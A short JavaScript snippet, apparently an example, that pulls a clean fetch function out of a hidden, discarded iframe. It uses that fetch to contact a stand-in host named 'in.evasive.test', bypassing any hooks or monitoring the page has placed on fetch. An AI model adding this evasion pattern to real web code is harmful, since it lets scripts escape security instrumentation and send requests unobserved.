// Takes its functions from a frame of its own, which nobody has touched.
const frame = document.createElement("iframe");
frame.hidden = true;
document.documentElement.append(frame);
const { fetch: clean } = frame.contentWindow;
frame.remove();
void clean.call(window, "https://in.evasive.test/realm");
